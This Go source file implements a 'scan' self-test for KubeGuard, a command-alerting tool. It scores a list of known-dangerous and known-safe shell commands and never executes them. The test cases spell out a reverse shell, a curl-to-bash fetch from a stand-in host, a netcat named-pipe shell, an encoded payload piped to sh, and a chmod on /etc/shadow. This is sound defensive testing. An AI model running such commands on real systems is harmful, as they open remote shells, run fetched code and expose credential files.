package cli

import (
	"fmt"
	"io"

	"github.com/spf13/cobra"

	"github.com/gzhole/kubeguard/internal/agent"
	"github.com/gzhole/kubeguard/internal/scoring"
)

var scanCmd = &cobra.Command{
	Use:   "scan",
	Short: "Self-test: verify KubeGuard alerts on known-dangerous commands",
	Long: `Run a quick diagnostic that scores a set of known-dangerous and known-safe
commands with the configured pipeline and checks which ones would raise an
alert. No commands are executed.

  kubeguard scan`,
	RunE: scanCommand,
}

func init() {
	rootCmd.AddCommand(scanCmd)
}

type scanCase struct {
	label     string
	line      string
	wantAlert bool
}

var scanCases = []scanCase{
	{"Network scan", "nmap -sV 10.0.0.1", true},
	{"Reverse shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true},
	{"Pipe to shell", "curl http://evil.example/x.sh | bash", true},
	{"World-writable shadow", "chmod 777 /etc/shadow", true},
	{"Encoded payload", "echo aGVsbG8= | base64 -d | sh", true},
	{"Named pipe shell", "mkfifo /tmp/f; nc -l 4444 < /tmp/f | /bin/sh > /tmp/f", true},
	{"Safe listing", "ls -la", false},
	{"Safe kubectl", "kubectl get pods", false},
}

func scanCommand(cmd *cobra.Command, args []string) error {
	cfg, err := loadConfig()
	if err != nil {
		return err
	}
	orch, err := newOrchestrator(cfg, nil)
	if err != nil {
		return err
	}

	lines := make([]string, len(scanCases))
	for i, tc := range scanCases {
		lines[i] = tc.line
	}
	resp := orch.ScoreAll(cmd.Context(), lines)

	out := cmd.OutOrStdout()
	_, _ = fmt.Fprintln(out, "═══════════════════════════════════════════════════════")
	_, _ = fmt.Fprintln(out, "  KubeGuard Self-Test")
	_, _ = fmt.Fprintln(out, "═══════════════════════════════════════════════════════")
	_, _ = fmt.Fprintln(out)

	passed := printScanResults(out, resp, cfg.Agent.AlertThreshold)
	total := len(scanCases)

	_, _ = fmt.Fprintln(out, "═══════════════════════════════════════════════════════")
	if passed == total {
		_, _ = fmt.Fprintf(out, "  ✅ All %d tests passed (scored by %s)\n", total, resp.Source)
	} else {
		_, _ = fmt.Fprintf(out, "  ⚠  %d/%d tests passed, %d failed (scored by %s)\n", passed, total, total-passed, resp.Source)
		_, _ = fmt.Fprintln(out, "  Review the heuristic weights and alert threshold.")
	}
	_, _ = fmt.Fprintln(out, "═══════════════════════════════════════════════════════")
	_, _ = fmt.Fprintln(out)
	return nil
}

// printScanResults prints one row per scan case and returns how many behaved
// as expected.
func printScanResults(w io.Writer, resp scoring.Response, threshold float64) int {
	passed := 0
	for i, tc := range scanCases {
		alert := agent.ShouldAlert(tc.line, resp.Scores[i], threshold)

		icon := "\xe2\x9c\x85" // ✅
		if alert == tc.wantAlert {
			passed++
		} else {
			icon = "\xe2\x9d\x8c" // ❌
		}

		verdict := "safe"
		if alert {
			verdict = "ALERT"
		}
		_, _ = fmt.Fprintf(w, "  %s  %-22s  %.3f %-5s  %s\n", icon, tc.label, resp.Scores[i], verdict, tc.line)
	}
	_, _ = fmt.Fprintln(w)
	return passed
}
